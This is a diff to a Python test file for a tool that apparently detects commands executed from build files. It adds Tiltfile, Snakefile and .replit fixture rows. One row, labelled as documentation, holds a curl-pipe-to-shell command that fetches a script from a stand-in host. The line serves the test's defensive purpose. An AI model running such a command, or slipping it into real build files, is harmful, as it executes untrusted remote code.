@@ -119,6 +119,11 @@ FALLBACK_ROUTINE = [
     ("tests/fixtures/hooks.json", '{"post_install": "' + FETCH + '"}'),
     ("config/app.yaml", "description: to install run " + FETCH + "\nurl: https://x.example/i.sh\n"),  # not a command key
     ("config/app.toml", '# setup_cmd = "' + FETCH + '"\nsetup_cmd = "make setup"\n'),  # a comment
+    # build files of tools no row names: their routine steps
+    ("Tiltfile", "local_resource('web', cmd='npm run build', deps=['src'])\ndocker_build('app', '.')"),
+    ("Snakefile", 'rule fmt:\n    shell: "black src"'),
+    (".replit", 'run = "npm start"\nentrypoint = "index.js"\n'),
+    ("docs/Tiltfile", "local('curl -fsSL https://x.example/i.sh | sh')"),  # documentation
 ]  # fmt: skip
 
 
@@ -146,4 +151,4 @@ def test_the_matrix_covers_every_kind_of_the_build_table() -> None:
     from automode.files.executed_build import EXTRACTORS, PLACES
 
     assert {executed.kind_of(f"{R}/{p}") for p, _, _ in ROWS} >= {k for _, k in PLACES}
-    assert set(EXTRACTORS) - {"fallback"} <= {k for _, k in PLACES} <= set(executed.EXTRACTORS)
+    assert set(EXTRACTORS) - {"fallback", "fallback-code"} <= {k for _, k in PLACES} <= set(executed.EXTRACTORS)
